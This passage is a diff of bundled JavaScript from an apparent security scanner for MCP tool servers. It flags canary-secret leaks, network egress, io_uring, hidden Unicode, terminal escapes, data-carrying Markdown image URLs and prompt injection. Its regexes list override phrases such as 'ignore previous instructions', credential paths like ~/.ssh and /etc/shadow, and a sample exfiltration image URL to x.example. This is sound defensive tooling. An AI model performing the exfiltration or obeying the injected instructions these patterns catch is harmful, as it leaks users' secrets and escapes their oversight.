+    // Persistence and escapes are judged on every access; what a call undid itself changes nothing the
+    // annotations or the policy speak of.
+    if (file.transient)
+        return;
+    const temporary = isTemporary(target, home, judge.input.cwd);
+    pushOccurrences(out, file, { rule: 'file-write', subject: shown, evidence: { paths: [shown] } }, (phase) => judge.decide(judge.policy.write(callName(phase), target), "; outside the policy's write paths", 
+    // Temporary files do not modify the environment a read-only tool promises to leave alone.
+    temporary ? null : judge.restriction(phase, writeRestriction, 'readOnlyHint: true'), temporary ? null : 'info'), (j) => `${verb} ${shown}${j.suffix}`);
+}
+function deleteOccurrences(judge, out, file, removed, tried, own) {
+    const { home } = judge.input;
+    const shown = displayPath(removed, home);
+    const temporary = isTemporary(removed, home, judge.input.cwd);
+    const verb = file.access === 'rename' ? (tried ? 'tried to move away' : 'moves away') : tried ? 'tried to delete' : 'deletes';
+    if (outsideWritable(judge, removed, file)) {
+        pushOccurrences(out, file, { rule: 'host-write', subject: shown, evidence: { paths: [shown] } }, () => ({ severity: 'high', suffix: '' }), () => `${verb} ${shown}, outside its workspace and temp dirs`);
+        return;
+    }
+    const ownRoot = own.rootOf(removed, file.access);
+    if (ownRoot !== null)
+        return own.hold(ownRoot, file, removed, 'delete');
+    if (file.transient)
+        return;
+    pushOccurrences(out, file, { rule: 'file-delete', subject: shown, evidence: { paths: [shown] } }, (phase) => judge.decide(judge.policy.write(callName(phase), removed), "; outside the policy's write paths", temporary ? null : judge.restriction(phase, deleteRestriction, 'it does not delete'), temporary ? null : 'info'), (j) => `${verb} ${shown}${j.suffix}`);
+}
+
+;// CONCATENATED MODULE: ./src/rules/io-uring-rules.ts
+// unobservable-io: io_uring moves I/O out of the syscalls strace sees, so setting it up is the finding.
+
+function ioUringOccurrences(judge, out) {
+    // What another witness saw go through it: reads of canary files with no syscall in the trace.
+    const unseen = judge.input.observed.files.filter((file) => file.witness === 'canary-watch').map((file) => file.homePath ?? file.path);
+    const seen = unseen.length > 0 ? `; the kernel's canary watch saw ${unseen.join(', ')} read with no syscall in the trace` : '';
+    for (const entry of judge.input.observed.ioUring) {
+        pushOccurrences(out, entry, { rule: 'unobservable-io', subject: 'io_uring', evidence: {} }, () => ({ severity: 'medium', suffix: '' }), () => `sets up io_uring; file and network I/O submitted through it does not appear in the trace${seen}`);
+    }
+}
+
+;// CONCATENATED MODULE: ./src/rules/leak-rules.ts
+// canary-exfiltration: a planted secret leaving the process by socket, DNS name or child argv/env.
+
+
+
+function leakOccurrences(judge, out) {
+    for (const leak of judge.input.observed.leaks) {
+        const encoded = leak.encoding === 'raw' ? '' : ` (${leak.encoding}-encoded)`;
+        const destination = (0,neutralize/* excerpt */.Kb)(leak.destination.split(judge.input.home).join('~'));
+        // Seen only by the sink: the reviewer's proof is network.jsonl, not trace.log.
+        const seen = leak.witness === 'sink' ? `, seen by the sink (network.jsonl${leak.attributedBy === 'time' ? '; tied to the call by time' : ''})` : '';
+        const what = `${partOfFile(leak) ?? `the canary from ${leak.canary}`}${encoded}`;
+        const said = leak.via === 'socket'
+            ? `sends ${what} to ${destination}`
+            : leak.via === 'dns'
+                ? `looks up a DNS name carrying ${what} ('${destination}')`
+                : `passes ${what} to a child process (${external_node_path_.posix.basename(destination)})`;
+        const message = said + seen;
+        const evidence = {
+            canaries: [leak.canary],
+            ...(leak.bytes ? { canaryBytes: [`${leak.canary} bytes ${leak.bytes.start}–${leak.bytes.end} of ${leak.bytes.of}`] } : {}),
+            ...(leak.via === 'socket' ? { addresses: [destination] } : leak.via === 'dns' ? { dnsNames: [destination] } : { paths: [destination] }),
+            ...(leak.witness ? { witness: leak.witness } : {})
+        };
+        // Not suppressible: a planted secret leaving the process is never within any declared scope.
+        pushOccurrences(out, leak, { rule: 'canary-exfiltration', subject: `${leak.canary} ${leak.via} ${destination}`, evidence }, () => ({ severity: 'critical', suffix: '' }), () => message);
+    }
+}
+/** "bytes 0–64 of ~/.ssh/id_rsa" for a piece of a canary file; undefined for a whole file or a token. */
+function partOfFile(leak) {
+    const bytes = leak.bytes;
+    if (bytes?.within !== 'file' || (bytes.start === 0 && bytes.end === bytes.of))
+        return undefined;
+    return `bytes ${bytes.start}–${bytes.end} of ${leak.canary}`;
+}
+
+;// CONCATENATED MODULE: ./src/rules/network-rules.ts
+// Network: network-egress (connects and sends off loopback) and dns-query.
+
+
+
+
+function networkOccurrences(judge, out) {
+    for (const entry of judge.input.observed.network) {
+        if (entry.loopback || entry.family === 'unix')
+            continue;
+        const endpoint = formatEndpoint(entry.address, entry.port);
+        const names = entry.hostnames.map((n) => (0,neutralize/* excerpt */.Kb)(n, 60));
+        const shownNames = names.length > 0 ? ` (${names.slice(0, 3).join(', ')})` : '';
+        const verb = entry.syscall === 'connect' ? (entry.succeeded ? 'connects to' : 'tried to connect to') : entry.succeeded ? 'sends data to' : 'tried to send data to';
+        const evidence = { addresses: [endpoint], ...(names.length > 0 ? { dnsNames: names } : {}) };
+        pushOccurrences(out, entry, { rule: 'network-egress', subject: `${entry.protocol} ${endpoint}`, evidence }, (phase) => judge.decide(judge.policy.destination(callName(phase), entry.address, entry.port, entry.hostnames), "; not in the policy's network allow list", judge.restriction(phase, egressRestriction, 'that it stays local'), 'info'), (j) => `${verb} ${endpoint}${shownNames} over ${entry.protocol}${j.suffix}`);
+    }
+    for (const query of judge.input.observed.dns) {
+        const name = query.name.replace(/\.$/, '');
+        if (name === 'localhost' || name.endsWith('.localhost'))
+            continue;
+        const shown = (0,neutralize/* excerpt */.Kb)(name);
+        pushOccurrences(out, query, { rule: 'dns-query', subject: name, evidence: { dnsNames: [shown] } }, (phase) => judge.decide(judge.policy.dnsName(callName(phase), name), "; not in the policy's network allow list", judge.restriction(phase, egressRestriction, 'that it stays local'), 'info'), (j) => `looks up ${shown} (${query.type})${j.suffix}`);
+    }
+}
+
+;// CONCATENATED MODULE: ./src/profile/server-text/ansi.ts
+
+const EFFECT_ORDER = ['hides', 'erases', 'moves', 'overwrites', 'links', 'titles'];
+function ansi_effectOf(sequence) {
+    const body = sequence.replace(/^(?:\u001b\[|\u009b)/, '');
+    if (body !== sequence) {
+        const final = body.slice(-1);
+        const params = body.slice(0, -1);
+        if (final === 'm')
+            return params.split(/[;:]/).some((param) => param === '8') ? 'hides' : null;
+        if (final === 'K' || final === 'J' || final === 'P' || final === 'X' || final === 'M')
+            return 'erases';
+        if ('ABCDEFGHdfsu'.includes(final))
+            return 'moves';
+        return null;
+    }
+    if (sequence.startsWith('\u001b]'))
+        return /^\u001b]8;/.test(sequence) ? 'links' : 'titles';
+    if (sequence === '\u001bM' || sequence === '\u001bD' || sequence === '\u001bE')
+        return 'moves';
+    if (sequence === '\u001bc')
+        return 'erases';
+    return null;
+}
+/** The escapes in the text that hide, erase or move; null when there are none (or only colours). */
+function findAnsi(text) {
+    const hasEscape = text.includes('\u001b') || text.includes('\u009b');
+    // A carriage return followed by text on the same line overwrites what came before it.
+    const overwrite = /[^\r\n]\r(?!\n)[^\r\n]/.exec(text);
+    if (!hasEscape && !overwrite)
+        return null;
+    const effects = new Set();
+    let index = overwrite ? overwrite.index : Number.MAX_SAFE_INTEGER;
+    if (overwrite)
+        effects.add('overwrites');
+    if (hasEscape) {
+        for (const { sequence, index: at } of (0,neutralize/* ansiSequences */.QL)(text)) {
+            const effect = ansi_effectOf(sequence);
+            if (effect === null)
+                continue;
+            effects.add(effect);
+            index = Math.min(index, at);
+        }
+    }
+    if (effects.size === 0)
+        return null;
+    return { effects: EFFECT_ORDER.filter((effect) => effects.has(effect)), index };
+}
+
+;// CONCATENATED MODULE: ./src/profile/server-text/data-urls.ts
+// Images and links whose URL carries data. A client renders a Markdown image by fetching it, so a result
+// holding ![](https://x.example/p?d=<data>) sends <data> to x.example with no socket from the server; a
+// link does the same when the user follows it. A URL is said to carry data when a query value or a
+// path segment is a long run of encoded-looking characters (base64, hex, percent-encoded text); a static
+// badge or a plain page link carries none.
+const MAX_URLS = 20;
+const MAX_URL_CHARS = 8_192;
+const MARKDOWN_IMAGE = /(!?)\[[^\]\n]{0,500}\]\(\s*<?(https?:\/\/[^\s)>]+)>?(?:\s+["'][^"'\n]{0,200}["'])?\s*\)/gi;
+const REFERENCE_IMAGE = /(!?)\[[^\]\n]{0,500}\]\[([^\]\n]{1,100})\]/g;
+const REFERENCE = /^\s{0,3}\[([^\]\n]{1,100})\]:\s*<?(https?:\/\/\S+?)>?(?:\s|$)/gm;
+const HTML_IMAGE = /<img\b[^>]{0,500}?\bsrc\s*=\s*["']?(https?:\/\/[^\s"'>]+)/gi;
+/** a data-looking run: base64/base64url/hex/percent-encoding, at least 24 characters (65 in a path segment) */
+const ENCODED_RUN = /[A-Za-z0-9+/=_%-]{24,}/g;
+/** The images and links of Markdown or HTML in the text whose URL is http(s). */
+function findDataUrls(text) {
+    if (!/https?:\/\//i.test(text))
+        return [];
+    const out = [];
+    const add = (raw, image, index) => {
+        if (out.length >= MAX_URLS)
+            return;
+        const url = raw.slice(0, MAX_URL_CHARS);
+        let parsed;
+        try {
+            parsed = new URL(url);
+        }
+        catch {
+            return;
+        }
+        out.push({ url, host: parsed.hostname.toLowerCase(), image, data: dataIn(parsed), index });
+    };
+    for (const match of text.matchAll(MARKDOWN_IMAGE))
+        add(match[2], match[1] === '!', match.index);
+    for (const match of text.matchAll(HTML_IMAGE))
+        add(match[1], true, match.index);
+    if (text.includes('][')) {
+        const references = new Map();
+        for (const match of text.matchAll(REFERENCE))
+            references.set(match[1].toLowerCase(), match[2]);
+        for (const match of text.matchAll(REFERENCE_IMAGE)) {
+            const url = references.get(match[2].toLowerCase());
+            if (url)
+                add(url, match[1] === '!', match.index);
+        }
+    }
+    return out;
+}
+/** The longest run in the query values and path segments that looks like encoded data. */
+function dataIn(url) {
+    let longest = '';
+    const consider = (value, minimum) => {
+        for (const match of value.matchAll(ENCODED_RUN)) {
+            const run = match[0];
+            if (run.length < minimum)
+                continue;
+            // Encoded data mixes letters and digits (or is percent-encoded text); a long-word slug does not.
+            const looksEncoded = (/[0-9]/.test(run) && /[A-Za-z]/.test(run)) || /%[0-9A-Fa-f]{2}/.test(run);
+            if (looksEncoded && !/^[a-z]+(?:-[a-z]+)+$/.test(run) && run.length > longest.length)
+                longest = run;
+        }
+    };
+    consider(url.search, 24);
+    // A path segment of a content hash (40 or 64 hex digits) names a static file; more is data.
+    for (const segment of url.pathname.split('/'))
+        consider(segment, 65);
+    return longest;
+}
+
+;// CONCATENATED MODULE: ./src/profile/server-text/unicode.ts
+
+const RTL_LETTER = /[\p{Script=Hebrew}\p{Script=Arabic}\p{Script=Syriac}\p{Script=Thaana}\p{Script=Nko}\p{Script=Samaritan}\p{Script=Mandaic}\p{Script=Adlam}]/u;
+const WORD_CHAR = /[A-Za-z0-9]/;
+const BLACK_FLAG = 0x1f3f4;
+const CANCEL_TAG = 0xe007f;
+/** what a subdivision flag spells in tags: a region code, e.g. gbsct */
+const FLAG_TAGS = /^[a-z0-9]{2,7}$/;
+/** What is hidden in the text, or null when nothing is. */
+function findHiddenUnicode(text) {
+    // Fast path: every invisible character this looks for is above U+05FF.
+    if (!/[^\x00-\u05ff]/.test(text))
+        return null;
+    const chars = Array.from(text);
+    const tagRuns = [];
+    let zeroWidthInWords = 0;
+    let overrides = 0;
+    let strayBidi = 0;
+    let revealed = '';
+    const hasRtl = RTL_LETTER.test(text);
+    for (let i = 0; i < chars.length; i++) {
+        const char = chars[i];
+        const kind = (0,neutralize/* invisibleKind */.qr)(char.codePointAt(0) ?? 0);
+        if (kind === null) {
+            revealed += char;
+            continue;
+        }
+        if (kind === 'tag') {
+            let end = i;
+            while (end < chars.length && (0,neutralize/* invisibleKind */.qr)(chars[end]?.codePointAt(0) ?? 0) === 'tag')
+                end++;
+            const run = chars.slice(i, end);
+            const previous = chars[i - 1]?.codePointAt(0);
+            const spelled = (0,neutralize/* decodeTags */.C3)(run.slice(0, -1).join(''));
+            const flag = previous === BLACK_FLAG && run[run.length - 1]?.codePointAt(0) === CANCEL_TAG && FLAG_TAGS.test(spelled);
+            if (!flag) {
+                const decoded = (0,neutralize/* decodeTags */.C3)(run.join(''));
+                tagRuns.push(decoded);
+                revealed += decoded;
+            }
+            i = end - 1;
+            continue;
+        }
+        if (kind === 'zero-width') {
+            if (WORD_CHAR.test(chars[i - 1] ?? '') && WORD_CHAR.test(nextVisible(chars, i + 1)))
+                zeroWidthInWords++;
+            continue;
+        }
+        revealed += char;
+        if (kind === 'bidi-override')
+            overrides++;
+        else if ((kind === 'bidi-embedding' || kind === 'bidi-isolate') && !hasRtl)
+            strayBidi++;
+    }
+    if (tagRuns.length === 0 && zeroWidthInWords === 0 && overrides === 0 && strayBidi === 0)
+        return null;
+    return { ...(tagRuns.length > 0 ? { tagText: tagRuns.join(' ') } : {}), zeroWidthInWords, overrides, strayBidi, revealed };
+}
+function nextVisible(chars, from) {
+    for (let i = from; i < chars.length; i++) {
+        if ((0,neutralize/* invisibleKind */.qr)(chars[i]?.codePointAt(0) ?? 0) !== 'zero-width')
+            return chars[i];
+    }
+    return '';
+}
+
+;// CONCATENATED MODULE: ./src/profile/server-text/injection.ts
+// Instructions aimed at the model, found by what a sentence asks for, not by keywords alone. A sentence
+// is a directive when it is addressed to the reader ("you must", "before using this tool", an
+// imperative verb first); what it asks is one or more intents. An honest warning ("IMPORTANT: this tool
+// deletes files") asks nothing; a result that asks the model to show the user a list asks nothing of
+// these; "never pass passwords in the URL" forbids rather than asks.
+const INTENTS = [
+    'read-secret',
+    'hide-from-user',
+    'ignore-instructions',
+    'pass-as-argument',
+    'call-tool',
+    'send-out',
+    'important-block',
+    'other-tools'
+];
+// Files and stores a tool has no business asking the model to read for it.
+const SECRET_PLACE = /(?:~\/\.ssh|\.ssh\/|\bid_(?:rsa|dsa|ecdsa|ed25519)\b|\.aws\/credentials|(?:^|[\s`'"/])\.env\b|\.netrc|\.npmrc|\.pypirc|\.git-credentials|\.kube\/config|\.docker\/config|\bmcp\.json\b|claude_desktop_config|\/etc\/(?:passwd|shadow)|\bprivate[ _-]?keys?\b|\bssh[ _-]?keys?\b|\bcredentials?(?: files?)?\b|\bapi[ _-]?keys?\b|\bsecrets?\b|\baccess[ _-]?tokens?\b|\bpasswords?\b|\bseed phrases?\b)/i;
+const FILE_SECRET = /(?:~\/\.ssh|\.ssh\/|\bid_(?:rsa|dsa|ecdsa|ed25519)\b|\.aws\/credentials|(?:^|[\s`'"/])\.env\b|\.netrc|\.npmrc|\.pypirc|\.git-credentials|\.kube\/config|\.docker\/config|\bmcp\.json\b|claude_desktop_config|\/etc\/(?:passwd|shadow)|\bprivate[ _-]?keys?\b|\bssh[ _-]?keys?\b)/i;
+const TAKE_VERB = /\b(?:read|cat|open|load|get|fetch|include|pass|send|provide|attach|upload|copy|extract|dump|exfiltrat\w*|leak|collect|append|add|insert|put|paste|output|print|return)\b/i;
+const NEGATED_TAKE = /\b(?:never|not|don'?t|avoid|without)\s+(?:\w+\s+){0,2}?(?:read|cat|open|load|get|fetch|include|pass|send|provide|attach|upload|copy|share|expose|log|print|store)\b/i;
+const HIDE = /\b(?:(?:do not|don'?t|never|without)\s+(?:\w+\s+){0,2}?(?:tell|telling|mention|mentioning|inform|informing|notify|notifying|alert|alerting|reveal|revealing|disclose|disclosing|let)\b[^.!?\n]{0,60}\b(?:user|human|anyone)\b|(?:user|human)\s+(?:must|should|will|need|may)\s*(?:not|never)\s+(?:know|see|notice|learn|be told)|hide\b[^.!?\n]{0,40}\bfrom\s+(?:the\s+)?(?:user|human)|\b(?:secretly|covertly|without the user(?:'s)? (?:knowing|knowledge|noticing)))/i;
+const IGNORE = /(?:\b(?:ignore|disregard|forget|override|bypass)\b[^.!?\n]{0,40}\b(?:previous|prior|above|earlier|preceding|all|any|other|system|original|your)\b[^.!?\n]{0,25}\b(?:instructions?|prompts?|rules|guidelines|directions|directives|messages?)\b|\bnew (?:instructions|system prompt)\s*:|\byou are now (?:a|an|in)\b)/i;
+const PASS_AS = /\b(?:pass|put|include|send|provide|add|insert|place)\b[^.!?\n]{0,80}\b(?:as|in|into|inside|via)\s+(?:the\s+|a\s+)?[`'"]?\w+[`'"]?\s*(?:parameter|argument|param|field|arg|key)\b|\b(?:sidenote|side_note)\b/i;
+const CALL_TOOL = /\b(?:call|invoke|run|use|execute|trigger)\s+(?:the\s+)?[`'"]?[A-Za-z][\w.-]*[`'"]?\s*(?:tool|function)?\s+(?:with|passing|using)\b[^.!?\n]{0,120}(?:=|:|\bargument|\bparameter)/i;
+const ADDRESS = /https?:\/\/[^\s)>"'`]+|\b[\w.+-]+@[\w-]+(?:\.[\w-]+)+\b/i;
+const SEND_VERB = /\b(?:send|forward|bcc|cc|upload|post|export|exfiltrat\w*|transmit|deliver|copy)\b|\bdestination\s*[=:]/i;
+const BLOCK = /<\s*\/?\s*(?:important|system|instructions?|secret|hidden|admin|critical|assistant)\s*>/i;
+const OTHER_TOOLS = /\b(?:any|all|every|each|other|another)\s+(?:\w+\s+)?(?:tools?|functions?|servers?)\b|\bregardless of (?:the |which )?tool\b|\b(?:instead of|rather than)\s+(?:using\s+)?(?:the\s+)?(?:other|built-?in)\b/i;
+const MODIFY = /\b(?:bcc|cc|forward|redirect|send|copy|add|append|include|replace|change|prepend|always|must|instead)\b/i;
+const REDIRECT = /\b(?:bcc|cc|forward|redirect)\b|\b(?:send|copy)\b[^.!?\n]{0,60}\bto\b/i;
+const ADDRESSED = /\b(?:you (?:must|should|need to|have to|are required to|will)|make sure (?:to|you)|be sure to|before (?:using|calling|you use|you call|running|executing|invoking)|after (?:using|calling)|when(?:ever)? (?:you|using|calling)|always|first,?\s|otherwise|it is (?:very )?important (?:that|to)|(?:please|now)\s+\w+)/i;
+const IMPERATIVE_START = /^(?:(?:important|note|notice|system|assistant|ai|model)\s*[:!-]\s*)?(?:please\s+|also\s+|then\s+|and\s+|now\s+|first,?\s+)?(?:read|cat|open|load|fetch|include|pass|send|provide|attach|upload|copy|extract|dump|call|invoke|run|execute|forward|bcc|cc|add|append|ignore|disregard|forget|hide|output|print|return|insert|put|email|post|export)\b/i;
+/** Sentences: split at ., !, ? before a space or end, at line breaks and at block tags. */
+function sentences(text) {
+    const out = [];
+    const split = /[.!?](?=\s|$)|\n+|<\s*\/?\s*[A-Za-z]+\s*>/g;
+    let start = 0;
+    for (const match of text.matchAll(split)) {
+        const end = match.index + match[0].length;
+        const sentence = text.slice(start, end).trim();
+        if (sentence)
+            out.push({ sentence, index: start });
+        start = end;
+    }
+    const rest = text.slice(start).trim();
+    if (rest)
+        out.push({ sentence: rest, index: start });
+    return out;
+}
+const STRIP_LEAD = /^[\s>*_#`"'([\-•\d.)]+/;
+/** What the text asks of the model, sentence by sentence; null when it asks none of it. */
+function findInstructions(text) {
+    if (text.length < 12)
+        return null;
+    const found = new Set();
+    let redirects = false;
+    let best = null;
+    const block = BLOCK.test(text);
+    if (block)
+        found.add('important-block');
+    for (const { sentence, index } of sentences(text)) {
+        const bare = sentence.replace(STRIP_LEAD, '');
+        const directive = IMPERATIVE_START.test(bare) || ADDRESSED.test(bare);
+        const intents = [];
+        if (IGNORE.test(bare))
+            intents.push('ignore-instructions');
+        if (HIDE.test(bare))
+            intents.push('hide-from-user');
+        if (directive) {
+            const secret = FILE_SECRET.test(bare) || (SECRET_PLACE.test(bare) && PASS_AS.test(bare));
+            if (secret && TAKE_VERB.test(bare) && !NEGATED_TAKE.test(bare))
+                intents.push('read-secret');
+            if (PASS_AS.test(bare) && !NEGATED_TAKE.test(bare))
+                intents.push('pass-as-argument');
+            if (CALL_TOOL.test(bare))
+                intents.push('call-tool');
+            if (SEND_VERB.test(bare) && ADDRESS.test(bare) && !NEGATED_TAKE.test(bare))
+                intents.push('send-out');
+            if (OTHER_TOOLS.test(bare) && MODIFY.test(bare)) {
+                intents.push('other-tools');
+                if (REDIRECT.test(bare))
+                    redirects = true;
+            }
+        }
+        if (intents.length === 0)
+            continue;
+        for (const intent of intents)
+            found.add(intent);
+        const weight = intents.length + (intents.includes('read-secret') || intents.includes('ignore-instructions') ? 2 : 0);
+        if (!best || weight > best.weight)
+            best = { sentence, index, weight };
+    }
+    if (!best)
+        return null;
+    return { intents: INTENTS.filter((intent) => found.has(intent)), redirects, sentence: best.sentence, index: best.index };
+}
+
+;// CONCATENATED MODULE: ./src/profile/server-text/scan-text.ts
+
+
+
+
+
+const QUOTE_CHARS = 160;
+const CONTEXT_BEFORE = 40;
+/** Quote around `index`: a little before it, the rest up to QUOTE_CHARS, hidden text shown decoded. */
+function quoteAt(text, index, maxLen = QUOTE_CHARS) {
+    const start = Math.max(0, index - CONTEXT_BEFORE);
+    // Never start inside a surrogate pair.
+    const from = start > 0 && /[\udc00-\udfff]/.test(text[start] ?? '') ? start - 1 : start;
+    return (from > 0 ? '…' : '') + (0,neutralize/* revealHidden */.Ci)(text.slice(from, from + maxLen * 4), maxLen);
+}
+function scanText(text, options = {}) {
+    const hits = [];
+    const hidden = findHiddenUnicode(text);
+    const visible = findInstructions(text);
+    if (hidden) {
+        const revealed = findInstructions(hidden.revealed);
+        const shown = new Set(visible?.intents ?? []);
+        const intents = (revealed?.intents ?? []).filter((intent) => !shown.has(intent));
+        hits.push({
+            kind: 'hidden-unicode',
+            ...(hidden.tagText !== undefined ? { tagText: hidden.tagText } : {}),
+            zeroWidthInWords: hidden.zeroWidthInWords,
+            overrides: hidden.overrides,
+            strayBidi: hidden.strayBidi,
+            intents,
+            quote: (0,neutralize/* revealHidden */.Ci)(text, QUOTE_CHARS * 2)
+        });
+    }
+    if (visible)
+        hits.push({ kind: 'instructions', intents: visible.intents, redirects: visible.redirects, quote: quoteAt(text, visible.index) });
+    for (const found of findDataUrls(text)) {
+        if (!found.data)
+            continue;
+        const canaries = options.canaries ? [...new Set(options.canaries.scan(found.url).map((hit) => `${hit.canary} (${hit.encoding})`))] : [];
+        hits.push({ kind: 'data-url', image: found.image, host: found.host, data: found.data, canaries, quote: quoteAt(text, found.index) });
+    }
+    const ansi = findAnsi(text);
+    if (ansi)
+        hits.push({ kind: 'ansi', effects: ansi.effects, quote: quoteAt(text, ansi.index) });
+    return hits;
+}
+
+;// CONCATENATED MODULE: ./src/rules/server-text-rules.ts
+// What the server says, judged: its declared surface (tool, parameter, resource and prompt texts, schema
+// strings, server instructions) and every answer it gave (scanned as it arrived, probe/session.ts). The
+// facts come from profile/server-text/; the severity of each is decided here, by what the text asks for.
+
+
+
+const INTENT_TEXT = {
+    'read-secret': 'read credential files',
+    'hide-from-user': 'keep it from the user',
+    'ignore-instructions': 'ignore its earlier instructions',
+    'pass-as-argument': 'pass data in a tool argument',
+    'call-tool': 'call a tool with given arguments',
+    'send-out': 'send data to an address',
+    'important-block': 'obey an <IMPORTANT>-style block',
+    'other-tools': 'change how other tools behave'
+};
+/** How serious an instruction to the model is, by what it asks; null for what an honest text says too. */
+function instructionSeverity(intents) {
+    const has = (intent) => intents.includes(intent);
+    const secret = has('read-secret');
+    const ignore = has('ignore-instructions');
+    const hide = has('hide-from-user');
+    const send = has('send-out');
+    const call = has('call-tool');
+    const pass = has('pass-as-argument');
+    const block = has('important-block');
+    if (secret && (hide || pass || send || block || ignore))
+        return 'critical';
+    if (ignore && (send || call || hide))
+        return 'critical';
+    if (secret || ignore)
+        return 'high';
+    if (hide && (call || send || pass || block))
+        return 'high';
+    if (call && send)
+        return 'high';
+    if (hide)
+        return 'medium';
+    return null;
+}
+function asked(intents) {
+    const shown = intents.filter((intent) => intent !== 'important-block' && intent !== 'other-tools');
+    return (shown.length > 0 ? shown : intents).map((intent) => INTENT_TEXT[intent]).join(', ');
+}
+/**
+ * The verdicts on one hit. `declared`: the text is part of the declared surface (instructions there are
+ * metadata-injection, in answers result-injection); `tool`: a tool's own text, where instructions about
+ * other tools are cross-tool-instructions; `hostDeclared`: whether a URL's host appears in the declarations.
+ */
+function judgeHit(hit, place) {
+    switch (hit.kind) {
+        case 'hidden-unicode': {
+            const parts = [];
+            let severity = 'info';
+            const raise = (to) => {
+                if ((0,model/* severityRank */.qs)(to) > (0,model/* severityRank */.qs)(severity))
+                    severity = to;
+            };
+            const severe = instructionSeverity(hit.intents);
+            if (hit.tagText !== undefined) {
+                parts.push(`TAG characters spelling "${hit.tagText}"`);
+                raise(severe === 'critical' || severe === 'high' ? 'critical' : 'high');
+            }
+            if (hit.zeroWidthInWords > 0) {
+                parts.push(`zero-width characters inside ${hit.zeroWidthInWords === 1 ? 'a word' : 'words'}`);
+                raise(severe ? 'high' : 'low');
+            }
+            if (hit.overrides > 0) {
+                parts.push('a bidi override that reorders what is shown');
+                raise(severe ? 'high' : 'medium');
+            }
+            if (hit.strayBidi > 0) {
+                parts.push('bidi embeddings or isolates in text without right-to-left letters');
+                raise(severe ? 'high' : 'low');
+            }
+            const revealed = hit.intents.length > 0 ? `; revealed, it asks the model to ${asked(hit.intents)}` : '';
+            return [{ rule: 'hidden-unicode', severity, what: `hides text: ${parts.join(', ')}${revealed}` }];
+        }
+        case 'instructions': {
+            const out = [];
+            const severity = instructionSeverity(hit.intents);
+            if (severity)
+                out.push({ rule: place.declared ? 'metadata-injection' : 'result-injection', severity, what: `asks the model to ${asked(hit.intents)}` });
+            if (place.tool && hit.intents.includes('other-tools')) {
+                out.push({
+                    rule: 'cross-tool-instructions',
+                    severity: hit.redirects ? 'high' : 'medium',
+                    what: hit.redirects ? 'tells the model to redirect what other tools send' : 'tells the model how to use other tools'
+                });
+            }
+            return out;
+        }
+        case 'data-url': {
+            const kind = hit.image ? 'an image' : 'a link';
+            if (hit.canaries.length > 0) {
+                return [
+                    { rule: 'markdown-image-exfiltration', severity: 'critical', what: `has ${kind} whose URL carries canary ${hit.canaries.join(', ')} to ${hit.host}` }
+                ];
+            }
+            if (!hit.image || place.hostDeclared(hit.host))
+                return [];
+            return [
+                {
+                    rule: 'markdown-image-exfiltration',
+                    severity: 'high',
+                    what: `has an image whose URL carries ${hit.data.length} characters of data to ${hit.host}, a host it did not declare`
+                }
+            ];
+        }
+        case 'ansi': {
+            const severe = hit.effects.some((effect) => effect === 'hides' || effect === 'erases' || effect === 'moves');
+            const severity = severe ? 'high' : hit.effects.includes('links') ? 'medium' : hit.effects.includes('titles') ? 'low' : 'info';
+            return [{ rule: 'ansi-escape', severity, what: `has terminal escapes that ${hit.effects.join(', ')}` }];
+        }
+    }
+}
+const SCHEMA_SKIPPED = new Set(['type', '$ref', '$schema', '$id', 'format', 'pattern', 'required']);
+const MAX_SCHEMA_STRINGS = 2_000;
+/** The strings of a JSON Schema a model reads: descriptions, titles, enums, defaults, examples. */
+function schemaStrings(schema, field, out, depth = 0) {
+    if (depth > 64 || out.length >= MAX_SCHEMA_STRINGS)
+        return;
+    if (typeof schema === 'string') {
+        out.push({ field, text: schema });
+    }
+    else if (Array.isArray(schema)) {
+        schema.forEach((item, index) => schemaStrings(item, `${field}[${index}]`, out, depth + 1));
+    }
+    else if (typeof schema === 'object' && schema !== null) {
+        for (const [key, value] of Object.entries(schema))
+            if (!SCHEMA_SKIPPED.has(key))
+                schemaStrings(value, `${field}.${key}`, out, depth + 1);
+    }
+}
+function declaredTexts(manifest) {
+    const out = [];
+    const push = (kind, name, field, text) => {
+        if (typeof text === 'string' && text.length > 0)
+            out.push({ kind, name, field, text });
+    };
+    if (manifest.instructions)
+        push('instructions', 'server', 'instructions', manifest.instructions);
+    for (const tool of manifest.tools) {
+        push('tool', tool.name, 'name', tool.name);
+        push('tool', tool.name, 'title', tool.title);
+        push('tool', tool.name, 'description', tool.description);
+        const strings = [];
+        schemaStrings(tool.inputSchema, 'inputSchema', strings);
+        schemaStrings(tool.outputSchema, 'outputSchema', strings);
+        schemaStrings(tool.annotations, 'annotations', strings);
+        for (const { field, text } of strings)
+            push('tool', tool.name, field, text);
+    }
+    for (const resource of manifest.resources) {
+        push('resource', resource.uri, 'name', resource.name);
+        push('resource', resource.uri, 'title', resource.title);
+        push('resource', resource.uri, 'description', resource.description);
+    }
+    for (const template of manifest.resourceTemplates) {
+        push('resourceTemplate', template.uriTemplate, 'name', template.name);
+        push('resourceTemplate', template.uriTemplate, 'title', template.title);
+        push('resourceTemplate', template.uriTemplate, 'description', template.description);
+    }
+    for (const prompt of manifest.prompts) {
+        push('prompt', prompt.name, 'name', prompt.name);
+        push('prompt', prompt.name, 'title', prompt.title);
+        push('prompt', prompt.name, 'description', prompt.description);
+        prompt.arguments?.forEach((argument, index) => push('prompt', prompt.name, `arguments[${index}].description`, argument.description));
+    }
+    return out;
+}
+/** Whether a host is named anywhere in the declared surface (a tool that says it links to it). */
+function hostsDeclaredIn(manifest) {
+    const declared = JSON.stringify({ ...manifest, sha256: undefined }).toLowerCase();
+    return (host) => host.length > 0 && declared.includes(host);
+}
+function itemLabel(kind, name) {
+    return kind === 'instructions' ? 'the server instructions' : `${(0,model/* surfaceLabel */.CR)(kind)} ${(0,neutralize/* excerpt */.Kb)(name)}`;
+}
+/**
+ * A canary file counts in a URL only when the server read it (as in the profile: the link is the read
+ * plus the bytes); a token counts wherever it is. Canary ids are `~/…` for files.
+ */
+function countedCanaries(hit, fileRead) {
+    if (hit.kind !== 'data-url' || hit.canaries.length === 0)
+        return hit;
+    return { ...hit, canaries: hit.canaries.filter((canary) => !canary.startsWith('~/') || fileRead(canary.replace(/ \(\w+\)$/, ''))) };
+}
+function serverTextOccurrences(manifest, calls, results = [], fileRead = () => true) {
+    const out = [];
+    const hostDeclared = hostsDeclaredIn(manifest);
+    const startup = { kind: 'startup' };
+    declaredTexts(manifest).forEach((text, index) => {
+        const item = text.kind === 'instructions' ? 'instructions' : `${text.kind}:${text.name}`;
+        for (const hit of scanText(text.text)) {
